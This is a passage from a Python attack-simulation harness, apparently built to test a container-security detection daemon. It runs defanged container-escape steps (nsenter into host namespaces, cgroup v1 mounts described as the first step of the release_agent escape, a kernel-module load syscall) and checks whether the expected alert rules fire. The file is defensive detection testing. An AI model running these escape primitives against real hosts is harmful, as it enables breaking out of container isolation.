    in_container(u, "nsenter", "--target", str(os.getpid()), "--mount", "--uts", "--ipc", "--net", "true")


@technique("mount a file system in a container (own mount namespace)", "mount_from_container")
def _(u):
    m = u.note(os.path.join(WORK, "mnt"))
    os.makedirs(m, exist_ok=True)
    in_container(u, "unshare", "-m", "mount", "-t", "tmpfs", "egsim", m)


@technique("mount the cgroup v1 hierarchy in a container (own mount namespace)", "host_device_mounted")
def _(u):
    # the release_agent escape's first step; a named hierarchy of its own,
    # gone with the namespace
    m = u.note(os.path.join(WORK, "cgrp1"))
    os.makedirs(m, exist_ok=True)
    in_container(u, "unshare", "-m", "mount", "-t", "cgroup", "-o", "none,name=egsim", "cgroup", m)


@technique("load a kernel module from a container", "kernel_module_from_container")
def _(u):
    m = u.make(os.path.join(WORK, "egsim.ko"), "not a module")
    in_container(u, "python3", "-c", "import ctypes, os; fd = os.open(%r, os.O_RDONLY); "
                 "ctypes.CDLL(None).syscall(313, fd, b'', 0)" % m)


class SkipTechnique(Exception):
    pass


class Alerts:
    """Reads the daemon's alert file as it grows, whole lines only."""
    def __init__(self):
        self.offset, self.rest = 0, b""

    def read(self):
        try:
            with open(ALERTS, "rb") as f:
                f.seek(self.offset)
                data = f.read()
        except FileNotFoundError:
            return []
        self.offset += len(data)
        lines = (self.rest + data).split(b"\n")
        self.rest = lines.pop()
        return [json.loads(line) for line in lines if line.strip()]


def marker_path(n):
    return os.path.join(WORK, "egsim-marker.%d" % n)


def settle(alerts, n):
    """Opens marker N and returns the alerts raised before the marker's own
    alert: everything the technique's processes did (they have exited: the
    kernel saw their events before the marker's open, and the daemon handles
    events in order). Waits 10 s at most for the marker."""
    m = marker_path(n)
    with open(m, "w"):
        pass
    os.unlink(m)
    out, deadline = [], time.time() + 10
    while time.time() < deadline:
        for a in alerts.read():
            if a["rule_id"] == MARKER and a["event"].get("filename") == m:
                return out, True
            out.append(a)
        time.sleep(0.02)
    return out, False


def main():
    # timeout(1) ends the test with SIGTERM: raised here, so that the running
    # technique's undo still runs
    signal.signal(signal.SIGTERM, lambda *_: sys.exit("attack-sim: terminated"))
    global CGROUPS
    CGROUPS = Cgroups()
    try:
        return run_all()
    finally:
        CGROUPS.close()


def run_all():
    only = re.compile(os.environ.get("EGSIM_ONLY", ""))
    alerts = Alerts()
    if not settle(alerts, 0)[1]:
        print("attack-sim: the daemon raised no marker alert (is it running with sim.py --config?)")
        return 1
    results, prev, keep = [], [], False
    for n, (name, rule, fn) in enumerate(T, 1):
        keep = keep if name.startswith("(same)") else bool(only.search(name))
        if not keep:
            continue
        u = Undo()
        skipped = error = None
        try:
            fn(u)
        except SkipTechnique as e:
            skipped = str(e)
        except Exception as e:  # reported as a failure, after the clean-up
            error = "%s: %s" % (type(e).__name__, e)
        except BaseException:  # SIGTERM (timeout), ^C: undo, and stop
            u.close()
            raise
        # the undo comes after the alerts are in: a container's cgroup must
        # still exist when the daemon reads the technique's events
        try:
            got, marked = settle(alerts, n)
        finally:
            u.close()
        if not marked:
            sys.stderr.write("attack-sim: no marker alert after %r within 10 s\n" % name)
        # the technique's alerts: not those of sim.py's own set-up (the files
        # it makes, its loopback servers), nor of processes outside the
        # simulation's cgroups
        fired = sorted({a["rule_id"] for a in got if a["event"].get("tgid") != os.getpid() and CGROUPS.ours(a)
                        and (a["severity"] in LOUD or a["rule_id"] == rule)})
        if os.environ.get("EGSIM_DEBUG"):
            for a in got:
                e = a["event"]
                sys.stderr.write("%s: %s %s by %s (%s) %s\n" % (name, a["rule_id"], a["severity"], e.get("comm"),
                                 e.get("tgid"), " ".join(e.get("args") or [])[:80]))
        if name.startswith("(same)"):
            fired = prev
        else:
            prev = fired
        results.append((name, rule, fired, skipped, error))
    missed = 0
    for name, rule, fired, skipped, error in results:
        ok = rule in fired
        if skipped:
            status = "skipped: " + skipped
        elif error:
            status = "FAILED: " + error
            missed += 1
        else:
            status = "detected" if ok else "MISSED"
            missed += not ok
        print("%s\t%s\t%s\t%s" % (name, rule, ",".join(fired) or "-", status))
    ran = sum(1 for r in results if not r[3])
    print("attack-sim: %d techniques, %d run, %d detected, %d missed" % (len(results), ran, ran - missed, missed))
    if os.environ.get("EGSIM_MARKDOWN"):
        write_markdown(os.environ["EGSIM_MARKDOWN"], results)
    return 1 if missed else 0


def write_markdown(path, results):
    """The table of docs/detection.md (Attack simulation)."""
    with open(path, "w") as f:
        f.write("| technique | expected rule | rules that fired (warning or higher) |\n|---|---|---|\n")
        for name, rule, fired, skipped, error in results:
            got = "not run: " + skipped if skipped else ", ".join("`%s`" % i for i in fired) or "-"
            f.write("| %s | `%s` | %s |\n" % (name.replace("|", "\\|"), rule, got))


if __name__ == "__main__":
    sys.exit(main())
